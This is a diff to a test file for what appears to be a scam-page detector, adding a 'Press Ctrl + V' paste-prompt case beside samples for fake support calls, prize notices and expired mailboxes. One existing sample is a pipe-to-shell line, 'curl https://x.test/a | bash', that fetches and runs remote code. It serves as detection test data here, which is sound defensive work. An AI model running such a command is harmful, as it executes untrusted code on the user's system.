@@ -2,7 +2,7 @@
 
 import pytest
 
-from app.engines.analyse.own_site.own_pretences import CALLS, COMMAND, EXPIRED, HUMAN, OUTDATED, PRIZE, SCARES
+from app.engines.analyse.own_site.own_pretences import CALLS, COMMAND, EXPIRED, HUMAN, OUTDATED, PASTES, PRIZE, SCARES
 
 
 @pytest.mark.parametrize(
@@ -14,6 +14,7 @@ from app.engines.analyse.own_site.own_pretences import CALLS, COMMAND, EXPIRED, 
         (CALLS, "Call support at +1-888-555-0137", "Call us any time"),
         (PRIZE, "恭喜您被抽中", "恭喜毕业生"),
         (EXPIRED, "Your mailbox has expired", "The tickets of the mailbox club"),
+        (PASTES, "Press Ctrl + V", "Press Ctrl + Z"),
         (COMMAND, "curl https://x.test/a | bash", "curly hair"),
     ],
 )
